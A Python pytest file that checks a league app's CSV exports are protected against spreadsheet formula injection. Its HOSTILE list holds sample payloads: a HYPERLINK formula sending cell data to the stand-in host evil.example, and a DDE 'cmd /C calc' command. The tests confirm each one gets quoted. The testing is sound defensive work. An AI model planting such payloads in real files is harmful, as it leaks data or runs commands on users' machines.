"""Issue 24 item 5: CSV exports are safe to open. A player named ``=HYPERLINK(…)`` came out raw in
matches.csv and hands.csv, and a spreadsheet runs it. Each file is read here as a spreadsheet reads
a cell: a number is a number; text starting with = + - @ (or a tab or CR before one) is a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from contextlib import AbstractContextManager
from typing import Any

import pytest

from companion.models import Player
from league.exports import spreadsheet_safe
from tests.conftest import Person
from tests.league.helpers import League, league_build

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd"]
TAB_CR = ["\t=1+1", "\r=1+1"]


def _is_formula(cell: str) -> bool:
    """How a spreadsheet reads a CSV cell: a number (``-3``, ``1e3``) is a value, anything else that
    starts with a formula character is run (a leading tab or CR is skipped by some, then read)."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.lstrip("\t\r").startswith(("=", "+", "-", "@"))


@pytest.fixture
def league(
    alice: Person, bob: Person, charlie: Person, dave: Person, django_capture_on_commit_callbacks: Any
) -> League:
    committing: Callable[[], AbstractContextManager[Any]] = lambda: django_capture_on_commit_callbacks(execute=True)  # noqa: E731
    built = league_build([alice, bob, charlie, dave], committing)
    for person, name in zip((alice, bob, charlie, dave), HOSTILE, strict=True):
        Player.objects.filter(pk=person.player.pk).update(name=name)
    return built


def _cells(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("kind", ["matches", "hands"])
def test_no_cell_of_an_export_is_a_formula(league: League, kind: str) -> None:
    from django.core.cache import cache

    cache.clear()  # league reads are memoised: the renamed players must be read again
    rows = _cells(league.alice.get(f"/api/v1/stats/export/{kind}.csv?league={league.friday}"))
    names = {row[rows[0].index("player")] for row in rows[1:]}
    assert names >= {"'" + HOSTILE[0]}, names  # the name is all there, shown as typed
    assert [cell for row in rows for cell in row if _is_formula(cell)] == []


@pytest.mark.parametrize("text", HOSTILE + TAB_CR)
def test_every_formula_start_gets_a_quote(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text
    assert not _is_formula(spreadsheet_safe(text))


@pytest.mark.parametrize("value", ["Zoë", "a=b", "", 0, -3, 2.5, None])
def test_other_values_are_unchanged(value: Any) -> None:
    assert spreadsheet_safe(value) == value
